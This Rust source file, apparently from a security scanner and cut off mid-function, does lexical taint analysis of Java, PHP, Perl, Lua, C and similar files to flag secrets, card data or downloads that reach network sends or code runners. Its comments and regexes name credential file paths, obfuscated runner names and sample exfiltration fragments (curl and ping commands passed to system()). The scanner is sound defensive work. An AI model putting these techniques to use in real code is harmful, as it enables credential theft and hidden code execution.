//! Flows in languages read without a syntax tree: Java, Kotlin (and Gradle
//! scripts), C#, Swift, Groovy, Scala, Dart, C, C++ and Objective-C, PHP,
//! Perl, Lua, Elixir and R. A skill ships them
//! rarely, and an attacker who knows a scanner reads Python and JavaScript
//! writes the payload in one of them (a Maven plugin, a Gradle task, a
//! Neovim plugin, a Laravel service provider).
//!
//! The reading is lexical, by statement, within one file:
//! - comments are blanked (each dialect's markers), string literals kept
//!   apart from the code, their interpolations (`"$x"`, `"${x}"`, `"{x}"`)
//!   kept as names;
//! - a statement ends at `;`, at a line's end outside brackets (unless the
//!   next line continues a call chain), and at a block's brace; a brace
//!   after `=`, `(`, `,` or `return` is a value (a Lua table), not a block;
//! - **sources**: the environment read whole (`System.getenv()`, `%ENV`,
//!   `$_ENV`) or by a secret-looking name, a credential file's path in a
//!   literal (or in adjacent literals: `Paths.get(home, ".ssh", "id_rsa")`),
//!   what a download or a socket returns;
//! - **propagation**, by name and flow-insensitive: a statement holding
//!   secret data gives it to the names it assigns or declares, to loop and
//!   lambda variables, to the receivers of writes (`sb.append(x)`,
//!   `files.add(x)`, `table.insert(t, x)`, `push @a, $x`, `rep << x`), to
//!   C's out parameters (`snprintf(cmd, …, x)`, `strcat(buf, x)`, a plain
//!   call's first argument: `slurp(rep, ".aws/credentials")`), to the
//!   stream a writer wraps (`new GZIPOutputStream(bos)`), and to the
//!   function whose `return` it is (calls of that function then hold it);
//! - **sinks**: HTTP sends, sockets, DNS lookups, processes of a network
//!   program (`system("ping -p $chunk …")`, `jobstart({"curl", …})`, or a
//!   command built first: `snprintf(cmd, …, "curl -d %s …", k); system(cmd)`),
//!   libcurl's options (`curl_easy_setopt(c, CURLOPT_POSTFIELDS, body)`); code
//!   runners (`eval`, `load`, `Runtime.exec`, `Process.Start`, reflection)
//!   for downloaded data; a function whose sink uses its parameter is a sink
//!   at each call given secret data.
//!
//! Names built to hide a call are folded first: `strrev('lave')`,
//! `string.char(101, 118, …)`, `chr(101).chr(118)`, `new String(new
//! char[]{'e', …})`, and a variable holding a runner's name called as one
//! (`$f = 'system'; $f($cmd)`). Nothing here runs anything; statements,
//! rounds and names are capped.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;

use super::names::{self, is_credential_path, is_net_tool, is_secret_name};
use super::{Shared, Site, Src, SrcKind, Unit, Use};

const MAX_STATEMENTS: usize = 20_000;
const MAX_NAMES: usize = 4096;
const ROUNDS: usize = 8;

/// How a dialect writes comments.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Comments {
    /// `//` and `/* */`: Java, Kotlin, C#, Swift, Groovy, Scala.
    CLike,
    /// Those and `#`.
    Php,
    /// `#` and POD.
    Perl,
    /// `--` and `--[[ ]]`.
    Lua,
}

/// Whether a file is read here, by its name (lower case) or `#!` program.
pub(super) fn reads(name: &str, prog: &str) -> bool {
    comments_of(name, prog).is_some()
}

fn comments_of(name: &str, prog: &str) -> Option<Comments> {
    let ext = name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    Some(match ext {
        "java" | "kt" | "kts" | "cs" | "csx" | "swift" | "groovy" | "gradle" | "scala" | "sc" | "dart" | "c" | "cc"
        | "cpp" | "cxx" | "h" | "hh" | "hpp" | "hxx" | "m" | "mm" => Comments::CLike,
        "ex" | "exs" | "r" => Comments::Perl,
        "php" | "phtml" => Comments::Php,
        // A Jenkinsfile is Groovy.
        _ if name == "jenkinsfile" => Comments::CLike,
        "pl" | "pm" | "t" if ext != "t" || prog == "perl" => Comments::Perl,
        "lua" => Comments::Lua,
        _ => match prog {
            "perl" => Comments::Perl,
            "php" => Comments::Php,
            "lua" | "luajit" => Comments::Lua,
            "kotlin" | "kotlinc" => Comments::CLike,
            _ => return None,
        },
    })
}

/// One statement: its code with string literals replaced by `""` (their
/// interpolated names kept), the literals, and where it starts.
#[derive(Debug, Default)]
struct Stmt {
    code: String,
    literals: Vec<String>,
    /// Byte offset in the unit's text, for lines.
    start: usize,
    /// The function it sits in (the last one defined above it).
    func: Option<usize>,
    /// The names it gives its data to (see [`targets_of`]), worked out once.
    targets: Vec<String>,
}

#[derive(Debug, Default)]
struct Func {
    name: String,
    params: Vec<String>,
}

/// The flows of every unit read here, into `shared`.
pub(super) fn read(units: &[Unit], shared: &mut Shared) {
    let mut files = Vec::new();
    for (i, u) in units.iter().enumerate() {
        if u.lang != super::Lang::Lexical {
            continue;
        }
        let name = u.path.as_deref().unwrap_or("").rsplit('/').next().unwrap_or("").to_ascii_lowercase();
        let prog = super::shebang_program(&u.text).unwrap_or("");
        let Some(comments) = comments_of(&name, prog) else { continue };
        files.push(File::new(i, &u.text, comments));
    }
    // Functions whose sink sends a parameter, from every file: a call in
    // another file of the folder (`UsageReporter.Register(secretKey)`) is a
    // send too.
    let mut param_sinks: Vec<(String, Site)> = Vec::new();
    for f in &mut files {
        let found = f.flows(shared);
        if param_sinks.len() < 64 {
            param_sinks.extend(found);
        }
    }
    if param_sinks.is_empty() {
        return;
    }
    for f in &files {
        f.calls(&param_sinks, shared);
    }
}

struct File<'a> {
    unit: usize,
    text: &'a str,
    stmts: Vec<Stmt>,
    funcs: Vec<Func>,
    /// Names holding secret or downloaded data.
    tainted: HashMap<String, Src>,
    /// Functions returning such data, by name.
    returns: HashMap<String, Src>,
    /// Writers and the stream each wraps (`gz` over `bos`).
    wraps: Vec<(String, String)>,
    /// Names holding a string literal (a runner's name hidden in a variable).
    literal_of: HashMap<String, String>,
    /// Connections: what they return is remote data, what is written to
    /// them is sent.
    conns: HashMap<String, usize>,
}

static IDENT: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"[$@%]?[A-Za-z_][A-Za-z0-9_]*|\$[1-9]").unwrap());

/// An assignment's target at a statement's start: declarations and types
/// before the name, an index after it, one or more names
/// (`local ok, files =`, `my ($a, $b) =`, `val (k, v) =`).
static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?:^|[\s(;{,])(?:(?:val|var|let|local|my|our|const|final|static|private|public|readonly|def|auto|dynamic)[ \t]+)*(?:[A-Za-z_][\w.]*(?:::[A-Za-z_][\w.]*)*(?:<[^=;()]*>)?(?:\[\])*[ \t]+)?(?:\*+[ \t]*)?\(?(?P<names>[$@%]?[A-Za-z_]\w*(?:[ \t]*,[ \t]*[$@%]?[A-Za-z_]\w*)*)\)?(?:[ \t]*\[[^\]=]*\])*(?:[ \t]*:[ \t]*[\w.<>?\[\], ]+)?[ \t]*(?P<op>\.=|\+=|\?\?=|<<-|<-|=)(?:[^=~>]|$)",
    )
    .unwrap()
});

/// C++ objects built by their constructor (`std::ifstream f(path)`,
/// `std::string s{…}`): the name holds what the statement gives it.
static CONSTRUCTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[ \t\r\n]*(?:const[ \t]+)?(?:std::)?(?:[io]?fstream|[io]?stringstream|w?string|vector<[^;()]*>)[ \t]+([A-Za-z_]\w*)[ \t]*[({]").unwrap()
});

/// A plain call's first argument, as C and C++ pass what a function fills
/// (`slurp(rep, home / ".aws/credentials")`, `read_all(buf, fd)`).
static FILLED_ARG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[ \t\r\n]*(?P<f>[A-Za-z_][\w:]*)[ \t]*\([ \t]*&?(?P<a>[a-z_]\w*)[ \t]*,").unwrap());

/// Names declared anywhere in a statement (`open my $fh`, `try (var s = …)`).
static DECLARED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:\bmy|\blocal|\bvar|\bval|\blet)[ \t]+\(?([$@%]?[A-Za-z_]\w*(?:[ \t]*,[ \t]*[$@%]?[A-Za-z_]\w*)*)")
        .unwrap()
});

/// A destructuring assignment at a statement's start: the pattern.
static DESTRUCTURED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[ \t\r\n]*(?:(?:const|let|var|val|local|my)[ \t]+)?[\[{(]([^=;]{0,200})[\]})][ \t]*=(?:[^=>~]|$)")
        .unwrap()
});

/// Loop variables and their collection: `for (Path f : files)`, `for f in
/// files`, `for _, f in ipairs(files)`, `foreach my $f (@files)`,
/// `foreach ($files as $k => $f)`, `foreach (var f in files)`.
static LOOP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\b(?:for|foreach)\b[ \t]*(?:\((?:[^:;()]*[ \t])?(?P<a>[$@%]?\w+)[ \t]*(?::|\bin\b)|(?:my[ \t]+)?(?P<b>[$@%]?\w+)[ \t]*\(|\([^;]*?\bas\b[ \t]*(?:[$]\w+[ \t]*=>[ \t]*)?(?P<c>[$]\w+)|(?P<d>[\w, \t]+?)[ \t]+in\b)",
    )
    .unwrap()
});

/// Lambda parameters: `{ (k, v) ->`, `{ f ->`, `f -> …`, `(x) =>`, `|x|`,
/// `function(x)`.
static LAMBDA: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:\{[ \t]*\(?(?P<a>[\w, \t]+)\)?[ \t]*->|\(?(?P<b>\w+)\)?[ \t]*(?:->|=>)|\|(?P<c>[\w, \t]+)\||\bfunction[ \t]*\((?P<d>[\w, \t$]*)\))")
        .unwrap()
});

/// A write into a receiver: `sb.append(…)`, `files.add(…)`, `$out->write(…)`,
/// `fh:write(…)`, `files::add`.
static WRITE_INTO: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"([$]?[A-Za-z_]\w*)[ \t]*(?:\.|->|:|::)[ \t]*(?:append|add|addAll|put|putAll|push|write|writeBytes|writeString|print|println|Append|AppendLine|Add|AddRange|Write|WriteLine|insert|concat|extend|update|set|Set)\b|([A-Za-z_]\w*)[ \t]*<<[ \t]*[^<= \t]")
        .unwrap()
});

/// `table.insert(t, …)`, `push @a, …`, `array_push($a, …)`, `unshift`.
static INSERT_INTO: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:table\.insert[ \t]*\(|\bpush[ \t]*\(?|\bunshift[ \t]*\(?|\barray_push[ \t]*\(|\barray_unshift[ \t]*\()[ \t]*([$@%]?\w+)").unwrap()
});

/// Out parameters: C#'s `out var x`, PHP's `preg_match_all($re, $s, $m)`.
static OUT_PARAM: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\bout[ \t]+(?:var[ \t]+|[\w<>\[\]]+[ \t]+)?([A-Za-z_]\w*)|preg_match(?:_all)?[ \t]*\((?:[^,;]*,){2}[ \t]*&?\$([A-Za-z_]\w*)|\b(?:sn?printf|vsn?printf|asprintf|strn?cpy|strn?cat|strlcpy|strlcat|memcpy|memmove)[ \t]*\([ \t]*&?([A-Za-z_]\w*)").unwrap()
});

/// A writer wrapping a stream: `gz = new GZIPOutputStream(bos)`.
static WRAPS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bnew[ \t]+[\w.]+(?:<[^>]*>)?[ \t]*\([ \t]*([$]?[A-Za-z_]\w*)[ \t]*[,)]").unwrap());

/// A loop over a list of literals: PHP's `foreach ([…] as $f)`, Perl's
/// `for my $f (qw(…))`, Python-like `for f in [...]`.
static RUNNER_LOOP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:foreach|for)[ \t]*\([ \t]*(?:\[|array[ \t]*\()[^\]);]*[\])][ \t]+as[ \t]+(\$[A-Za-z_]\w*)"#)
        .unwrap()
});

/// Function definitions.
static DEF: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?:^|[ \t\r\n])(?:fun|def|function|func|sub)[ \t]+(?:<[^>]*>[ \t]*)?(?:[\w.]+[.:])?(?P<a>\w+)[ \t]*(?:\((?P<pa>[^)]*)\))?|^[ \t\r\n]*(?:(?:public|private|protected|internal|static|final|async|override|virtual|abstract|synchronized|suspend)[ \t]+)*[\w<>\[\],?.]+[ \t]+(?P<b>\w+)[ \t]*\((?P<pb>[^;]*)\)[ \t]*(?:throws[\w \t,.]+)?$",
    )
    .unwrap()
});

const NOT_FUNCTIONS: &[&str] = &[
    "if",
    "for",
    "foreach",
    "while",
    "switch",
    "catch",
    "return",
    "new",
    "else",
    "using",
    "lock",
    "when",
    "try",
    "synchronized",
];

/// Sources in a statement's code.
static ENV_WHOLE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"Platform\.environment\b[^\[]|Platform\.environment$|System\.get_env[ \t]*\([ \t]*\)|System\.getenv[ \t]*\([ \t]*\)|Environment\.GetEnvironmentVariables[ \t]*\(|%ENV\b|\$_ENV\b[^\[]|\$_ENV$|\bgetenv[ \t]*\([ \t]*\)|ProcessInfo\.processInfo\.environment\b[^\[]|System\.getenv\(\)\.|\bENV\.(?:to_h|each)")
        .unwrap()
});
static ENV_NAMED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:getenv|get_env|GetEnvironmentVariable|getProperty)[ \t]*\([ \t]*["']([A-Za-z0-9_]+)["']|\$ENV\{[ \t]*['"]?([A-Za-z0-9_]+)|\$_(?:ENV|SERVER)\[[ \t]*['"]([A-Za-z0-9_]+)|environment\[[ \t]*"([A-Za-z0-9_]+)"|\benv\([ \t]*['"]([A-Za-z0-9_]+)['"]"#)
        .unwrap()
});
static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\.openStream[ \t]*\(|URL[ \t]*\([^)]*\)[ \t]*\.readText|\bDownload(?:String|Data|File)(?:Async|TaskAsync)?[ \t]*\(|\bGet(?:String|ByteArray|Stream)Async[ \t]*\(|file_get_contents[ \t]*\([ \t]*["']https?:|\bcurl_exec[ \t]*\(|LWP::Simple|\bgetstore[ \t]*\(|->get[ \t]*\(|\bhttp\.request[ \t]*\(|contentsOf:[ \t]*URL|\.readBytes[ \t]*\(\)|\bfgets[ \t]*\(|\bfread[ \t]*\(|\bstream_get_contents[ \t]*\(|\.getInputStream[ \t]*\(|\.ReadToEnd(?:Async)?[ \t]*\(|\bsocket\.http|vim\.fn\.system[ \t]*\([^)]*curl|:httpc\.request|HTTPoison\.get|\bReq\.get|\bhttp\.get[ \t]*\(|\.getUrl[ \t]*\(|\burl[ \t]*\(|\bdownload\.file[ \t]*\(|\bGET[ \t]*\("#)
        .unwrap()
});
/// Requests made by fetching an address: a send of what the address carries.
static FETCH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\bfile_get_contents[ \t]*\(|\bDownload(?:String|Data|File)(?:Async|TaskAsync)?[ \t]*\(|\bGet(?:String|ByteArray|Stream)Async[ \t]*\(|HTTPoison\.get|\bReq\.get|\bhttp\.get[ \t]*\(|\.getUrl[ \t]*\(|\bGET[ \t]*\(|\bgetstore[ \t]*\(|\bget[ \t]*\([ \t]*["']https?:|\.openStream[ \t]*\("#)
        .unwrap()
});
/// Opening a connection: what it gives is remote, what it is written is sent.
static CONNECT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\bfsockopen[ \t]*\(|\bstream_socket_client[ \t]*\(|\bnew[ \t]+Socket[ \t]*\(|\bnew[ \t]+TcpClient[ \t]*\(|IO::Socket::INET->new|\bsocket\.(?:tcp|connect)[ \t]*\(|\.openConnection[ \t]*\(|\bcurl_init[ \t]*\(|\bnew[ \t]+WebSocket|\bNWConnection[ \t]*\(")
        .unwrap()
});

/// Sends (with the data in the statement).
static SEND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\.(?:send|sendAsync|SendAsync|PostAsync|PutAsync|UploadString|UploadData|UploadValues|UploadFile|execute|post|POST|put|PUT)[ \t]*\(|->(?:post|put|request|send)[ \t]*\(|HttpRequest\.newBuilder|HttpRequest->new|\bcurl_setopt(?:_array)?[ \t]*\(|\bcurl_easy_setopt[ \t]*\(|\bwp_remote_post[ \t]*\(|Http::(?:post|put)|\bDatagramPacket[ \t]*\(|\bInetAddress\.getByName[ \t]*\(|\bgethostbyname[ \t]*\(|\bdns_get_record[ \t]*\(|Dns\.GetHostAddresses|\bhttp\.request[ \t]*\(|\bmail[ \t]*\(|URLRequest[ \t]*\(|\.httpBody\b|\.postUrl[ \t]*\(|\bPOST[ \t]*\(|\.putUrl[ \t]*\(|\bhttp\.post[ \t]*\(|HTTPoison\.post|\bReq\.post|\.uploadTask|khttp\.|Fuel\.post|\bURL[ \t]*\(|\bnew[ \t]+URL[ \t]*\(|\bnew[ \t]+Uri[ \t]*\("#)
        .unwrap()
});
/// Processes: a sink when a network program is among their words.
static PROCESS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\bsystem[ \t]*\(|\bexec[ \t]*\(|`|\bqx[ \t]*[({\[/|]|ProcessBuilder|Process\.Start|Runtime\.getRuntime\(\)\.exec|\bjobstart[ \t]*\(|vim\.fn\.system[ \t]*\(|vim\.system[ \t]*\(|io\.popen[ \t]*\(|os\.execute[ \t]*\(|\bshell_exec[ \t]*\(|\bpassthru[ \t]*\(|\bproc_open[ \t]*\(|\bpopen[ \t]*\(|\.execute[ \t]*\(\)|Process[ \t]*\(\)|\.launchPath|\.executableURL"#)
        .unwrap()
});
/// Code runners: a sink for downloaded data.
static RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\beval[ \t]*[({]|Code\.eval_string|Code\.eval_quoted|\breadRDS[ \t]*\(|\bunserialize[ \t]*\(|\bsource[ \t]*\(|\bload(?:string)?[ \t]*\(|\bassert[ \t]*\(|\bcreate_function[ \t]*\(|\bsystem[ \t]*\(|\bexec[ \t]*\(|\bshell_exec[ \t]*\(|\bpassthru[ \t]*\(|\bproc_open[ \t]*\(|\bpopen[ \t]*\(|ProcessBuilder|Process\.Start|Runtime\.getRuntime\(\)\.exec|\.invoke[ \t]*\(|\bURLClassLoader|Assembly\.Load|\bdefineClass|\bdofile[ \t]*\(|\bloadfile[ \t]*\(|os\.execute[ \t]*\(|io\.popen[ \t]*\(|\bjobstart[ \t]*\(|vim\.fn\.system[ \t]*\(|\binclude[ \t]*\(|\brequire[ \t]*\("#)
        .unwrap()
});
/// A download written to a file: the file's names hold downloaded code.
static SAVE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"Files\.copy|Files\.write|\.transferTo|\bfile_put_contents|\bWriteAll(?:Bytes|Text)(?:Async)?|\bCopyTo(?:Async)?|\bFileOutputStream|\bgetstore|\bDownloadFile|\bfwrite|\bwriteBytes|\bio\.open[^)]*[\x22']wb?[\x22']|\bopen[ \t]*\([^)]*>")
        .unwrap()
});

impl<'a> File<'a> {
    fn new(unit: usize, text: &'a str, comments: Comments) -> File<'a> {
        let code = blank_comments(text, comments);
        let mut f = File {
            unit,
            text,
            stmts: Vec::new(),
            funcs: Vec::new(),
            tainted: HashMap::new(),
            returns: HashMap::new(),
            wraps: Vec::new(),
            literal_of: HashMap::new(),
            conns: HashMap::new(),
        };
        f.stmts = statements(&code);
        for s in &mut f.stmts {
            s.code = fold_hidden_names(&s.code, &mut s.literals);
            s.targets = targets_of(&s.code);
        }
        case_clauses_bind(&mut f.stmts);
        let mut current = None;
        for s in &mut f.stmts {
            // `return f(x)`, `throw new E(x)`, `else g(y)`: a statement that
            // starts with a keyword calls; it defines nothing.
            let first = s.code.split_whitespace().next().unwrap_or("");
            let keyword = matches!(
                first,
                "return" | "throw" | "else" | "yield" | "await" | "echo" | "print" | "new" | "case" | "delete" | "goto"
            );
            if let Some(c) = DEF.captures(&s.code).filter(|_| !keyword) {
                let name = c.name("a").or(c.name("b")).map_or("", |m| m.as_str());
                if !name.is_empty() && !NOT_FUNCTIONS.contains(&name) {
                    let params = c.name("pa").or(c.name("pb")).map(|p| param_names(p.as_str())).unwrap_or_default();
                    f.funcs.push(Func { name: name.to_owned(), params });
                    current = Some(f.funcs.len() - 1);
                }
            }
            s.func = current;
        }
        f
    }

    fn line(&self, at: usize) -> usize {
        memchr::memchr_iter(b'\n', &self.text.as_bytes()[..at.min(self.text.len())]).count() + 1
    }

    fn src(&self, kind: SrcKind, at: usize, what: &str) -> Src {
        Src { kind, unit: self.unit, line: self.line(at), what: what.to_owned() }
    }

    /// A payment card's number or security code read by a statement: a shop's
    /// accessor (Magento's `getCcNumber()`, `getCcCid()`) or a field named for
    /// it (`$_POST['cc_number']`, `getAdditionalInformation('cc_cid')`). A
    /// checkout sends them to its payment gateway; a skimmer, anywhere else.
    fn card_data(s: &Stmt) -> Option<String> {
        static ACCESSOR: LazyLock<Regex> = LazyLock::new(|| {
            Regex::new(r"(?i)\bget_?(?:cc_?(?:number|cid|cvv|cvc)|card_?(?:number|cvv|cvc|code))\b").unwrap()
        });
        static FIELD: LazyLock<Regex> = LazyLock::new(|| {
            Regex::new(r"(?i)^(?:cc[_-]?(?:number|num|cid|cvv2?|cvc2?)|card[_-]?(?:number|num|cvv2?|cvc2?|code)|cardnumber|cvv2?|cvc2?)$").unwrap()
        });
        if let Some(m) = ACCESSOR.find(&s.code) {
            return Some(format!("payment card data ({})", m.as_str()));
        }
        s.literals.iter().find(|l| FIELD.is_match(l)).map(|l| format!("payment card data (`{l}`)"))
    }

    /// A wallet's private key or recovery phrase named as what a sink sends, or
    /// what a call hands to a function that sends its parameter
    /// (`Report(privateKey, …)`, `post(url, mnemonic)`): a wallet signs with
    /// its key where it runs and sends only what it signed. Read at sinks only:
    /// names built from the key (an account, a signature) carry none of it.
    fn wallet_key_in(s: &Stmt, unit: usize, line: usize) -> Option<Src> {
        static KEY: LazyLock<Regex> = LazyLock::new(|| {
            Regex::new(r"(?i)^(?:private_?key(?:_?(?:hex|bytes|b58|base58))?|priv_?key|secret_?key|mnemonic(?:_?phrase)?|seed_?phrase|seed_?words|recovery_?phrase|wallet_?seed)$").unwrap()
        });
        let name = IDENT.find_iter(&s.code).map(|m| bare(m.as_str())).find(|n| KEY.is_match(n))?;
        Some(Src { kind: SrcKind::Named, unit, line, what: format!("a wallet's key or recovery phrase (`{name}`)") })
    }

    /// What a statement's own words read: a source, or a tainted name.
    fn data_in(&self, s: &Stmt, skip_targets: &[String]) -> Option<Src> {
        let mut found: Option<Src> = None;
        let mut take = |src: Src| found = super::stronger(found.take(), Some(src));
        if let Some(m) = ENV_WHOLE.find(&s.code) {
            take(self.src(SrcKind::Env, s.start, m.as_str().trim_end_matches(['.', ' ', '['])));
        }
        // The variable's name is a literal, set apart from the code.
        let named = if s.code.contains("env")
            || s.code.contains("Env")
            || s.code.contains("ENV")
            || s.code.contains("Property")
            || s.code.contains("_SERVER")
        {
            with_literals(s)
        } else {
            String::new()
        };
        for c in ENV_NAMED.captures_iter(&named) {
            if let Some(n) = (1..=5).find_map(|i| c.get(i)) {
                if is_secret_name(n.as_str()) {
                    take(self.src(SrcKind::Named, s.start, n.as_str()));
                }
            }
        }
        if let Some(p) = credential_literal(&s.literals) {
            take(self.src(SrcKind::CredFile, s.start, &p));
        }
        if let Some(p) = s.literals.iter().find(|l| names::is_key_pattern(l)) {
            let what = names::keys_matched(p);
            take(self.src(SrcKind::CredFile, s.start, &what));
        }
        if let Some(what) = Self::card_data(s) {
            take(self.src(SrcKind::Named, s.start, &what));
        }
        if let Some(m) = DOWNLOAD.find(&s.code) {
            take(self.src(SrcKind::Download, s.start, m.as_str().trim_end_matches(['(', ' '])));
        }
        for m in IDENT.find_iter(&s.code) {
            let key = bare(m.as_str());
            if skip_targets.iter().any(|t| t == key) {
                continue;
            }
            // A call of a function of the file that returns data.
            let called = s.code[m.end()..].trim_start().starts_with('(');
            if let Some(src) = self.tainted.get(key) {
                take(src.clone());
            } else if called {
                if let Some(src) = self.returns.get(key) {
                    take(src.clone());
                }
            }
            if let Some(&line) = self.conns.get(key) {
                // Reading from a connection (`fgets($sock)`, `s:receive()`).
                let reads =
                    ["fgets", "fread", "receive", "read", "Read", "readLine", "ReadLine", "recv", "getInputStream"];
                if reads.iter().any(|r| s.code.contains(r)) {
                    take(Src {
                        kind: SrcKind::Download,
                        unit: self.unit,
                        line,
                        what: "what a connection returns".to_owned(),
                    });
                }
            }
        }
        found
    }

    fn taint(&mut self, name: &str, src: &Src) -> bool {
        if self.tainted.len() >= MAX_NAMES {
            return false;
        }
        match self.tainted.get(name) {
            Some(old) if old.kind.weight() >= src.kind.weight() => false,
            _ => {
                self.tainted.insert(name.to_owned(), src.clone());
                true
            }
        }
    }

    fn propagate(&mut self) {
        // Literals held by names, connections opened.
        for i in 0..self.stmts.len() {
            let s = &self.stmts[i];
            // A loop over runners' names (`foreach (['popen', 'shell_exec',
            // 'system'] as $f)`, the first one the host allows): the loop's
            // name holds a runner's.
            if let Some(c) = RUNNER_LOOP.captures(&s.code) {
                if let Some(r) = s.literals.iter().find(|l| RUN.is_match(&format!("{l}("))) {
                    self.literal_of.insert(bare(&c[1]).to_owned(), r.clone());
                }
            }
            let Some(c) = ASSIGN.captures(&s.code) else { continue };
            let names: Vec<String> = c["names"].split(',').map(|n| bare(n.trim()).to_owned()).collect();
            let [name] = names.as_slice() else { continue };
            let rhs = s.code[c.name("op").map_or(0, |m| m.end())..].trim().trim_end_matches(';').trim();
            // `$f = 'system'`, a name folded from a built one (`$f = eval`),
            // or literals joined (`'sh' . 'ell_exec'`, `implode('', ['sh',
            // 'ell', '_exec'])`).
            if rhs == "\"\"" && s.literals.len() == 1 {
                self.literal_of.insert(name.clone(), s.literals[0].clone());
            } else if !rhs.is_empty() && rhs.bytes().all(|b| b.is_ascii_alphabetic() || b == b'_') {
                self.literal_of.insert(name.clone(), rhs.to_owned());
            } else if let Some(joined) = joined_literals(rhs, &s.literals) {
                self.literal_of.insert(name.clone(), joined);
            }
            if CONNECT.is_match(&s.code) && self.conns.len() < 64 {
                self.conns.insert(name.clone(), s.start);
            }
            if let Some(w) = WRAPS.captures(&s.code) {
                self.wraps.push((name.clone(), bare(&w[1]).to_owned()));
            }
        }
        for _ in 0..ROUNDS {
            let mut changed = false;
            for i in 0..self.stmts.len() {
                let Some(src) = self.data_in(&self.stmts[i], &self.stmts[i].targets) else { continue };
                let targets = std::mem::take(&mut self.stmts[i].targets);
                for t in &targets {
                    changed |= self.taint(t, &src);
                }
                self.stmts[i].targets = targets;
                // A download saved to a file: the names of the file (its
                // path's variables) hold the code, for a process that runs it.
                if src.kind == SrcKind::Download && SAVE.is_match(&self.stmts[i].code) {
                    for n in plain_names(&self.stmts[i].code) {
                        changed |= self.taint(&n, &src);
                    }
                }
                let s = &self.stmts[i];
                if s.code.trim_start().starts_with("return") {
                    if let Some(f) = s.func {
                        let name = self.funcs[f].name.clone();
                        if let std::collections::hash_map::Entry::Vacant(e) = self.returns.entry(name) {
                            e.insert(src.clone());
                            changed = true;
                        }
                    }
                }
            }
            for (writer, stream) in self.wraps.clone() {
                if let Some(src) = self.tainted.get(&writer).cloned() {
                    changed |= self.taint(&stream, &src);
                }
            }
            if !changed {
                break;
            }
        }
    }

    /// The flows within the file, into `shared`; returns the functions whose
    /// sink sends a parameter, with that sink, for [`File::calls`].
    fn flows(&mut self, shared: &mut Shared) -> Vec<(String, Site)> {
        self.propagate();
        // Functions whose sink uses a parameter: sinks at each call.
        let mut param_sinks: Vec<(String, Site)> = Vec::new();
        // What a sink's statement built (a request) is not sent again where
        // it is handed on (`client.send(req)`): one finding per send.
        let mut built_by_sinks: Vec<String> = Vec::new();
        let deps = self.parameter_dependents();
        for i in 0..self.stmts.len() {
            let s = &self.stmts[i];
            let Some(site) = self.sink(s) else { continue };
            let data =
                self.data_in(s, &built_by_sinks).or_else(|| Self::wallet_key_in(s, self.unit, self.line(s.start)));
            match data {
                Some(src) if (src.kind == SrcKind::Download) == (site.uses != Use::Send) => {
                    shared.flow(&src, site);
                    built_by_sinks.extend(s.targets.iter().cloned());
                }
                _ => {
                    if let Some(f) = s.func {
                        let names: Vec<&str> = IDENT.find_iter(&s.code).map(|m| bare(m.as_str())).collect();
                        if deps[f].iter().any(|p| names.contains(&p.as_str())) && param_sinks.len() < 64 {
                            param_sinks.push((self.funcs[f].name.clone(), site));
                        }
                    }
                }
            }
        }
        param_sinks
    }

    /// The calls of functions whose sink sends a parameter
    /// (`param_sinks`, of any file), given secret data: the send's flow.
    fn calls(&self, param_sinks: &[(String, Site)], shared: &mut Shared) {
        for s in &self.stmts {
            for (name, site) in param_sinks {
                let Some(at) = find_call(&s.code, name) else { continue };
                if s.func.is_some_and(|f| self.funcs[f].name == *name) {
                    continue;
                }
                let args = Stmt {
                    code: s.code[at..].to_owned(),
                    literals: s.literals.clone(),
                    start: s.start,
                    func: s.func,
                    targets: Vec::new(),
                };
                let line = self.line(args.start);
                if let Some(src) = self.data_in(&args, &[]).or_else(|| Self::wallet_key_in(&args, self.unit, line)) {
                    shared.flow(&src, site.clone());
                }
            }
        }
    }

    /// For each function, its parameters and the names of its statements
    /// built from them (`body = GetBytes($"k={key}")`): a sink that uses one
    /// of them sends what the caller passed.
    fn parameter_dependents(&self) -> Vec<Vec<String>> {
        let mut deps: Vec<Vec<String>> = self.funcs.iter().map(|f| f.params.clone()).collect();
        for _ in 0..2 {
            for s in &self.stmts {
                let Some(f) = s.func else { continue };
                if s.targets.is_empty() || deps[f].len() >= 64 {
                    continue;
                }
                let uses = IDENT.find_iter(&s.code).any(|m| {
                    let n = bare(m.as_str());
                    !s.targets.iter().any(|t| t == n) && deps[f].iter().any(|d| d == n)
                });
                if uses {
                    for t in &s.targets {
                        if !deps[f].contains(t) {
                            deps[f].push(t.clone());
                        }
                    }
                }
            }
        }
        deps
    }

    /// The sink a statement holds: a send, a process of a network program,
    /// or a code runner given downloaded data.
    fn sink(&self, s: &Stmt) -> Option<Site> {
        let code = self.called_by_name(&s.code);
        let hint = s.literals.iter().filter(|l| l.contains("://")).cloned().collect::<Vec<_>>().join(" ");
        let site = |what: &str, uses: Use| Site {
            unit: self.unit,
            line: self.line(s.start),
            what: what.trim_end_matches(['(', ' ', '\t']).to_owned(),
            hint: hint.clone(),
            uses,
        };
        if let Some(m) = RUN.find(&code) {
